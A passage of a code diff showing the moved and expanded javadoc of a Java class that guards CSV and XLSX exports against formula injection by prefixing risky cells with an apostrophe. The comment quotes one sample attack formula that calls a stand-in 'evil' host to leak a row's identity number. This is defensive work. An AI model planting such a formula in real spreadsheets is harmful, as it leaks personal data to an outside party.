@@ -1,8 +1,10 @@
-package cn.chengxin.ingestion.parsing;
+package cn.chengxin.shared.files;
 
 /**
- * Keeps text that came from an upload from becoming a formula when a clerk opens a report in Excel or WPS
- * ("CSV injection": {@code =HYPERLINK("http://evil/?"&A1,"点击")} sends the row's identity number away).
+ * Keeps text that came from an upload or was typed by a person (a row's field, a department's name or code) from
+ * becoming a formula when a clerk opens a file the platform hands out (an ingestion error report, the yearly
+ * progress report) in Excel or WPS ("CSV injection": {@code =HYPERLINK("http://evil/?"&A1,"点击")} sends the row's
+ * identity number away). Every CSV or XLSX export writes its text cells through it.
  * Following the OWASP guidance, a cell that starts with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a
  * carriage return gets a leading apostrophe, which spreadsheets show as text. The full-width forms
  * ({@code ＝ ＋ － ＠}) are treated the same, since input methods produce them and some spreadsheet programs
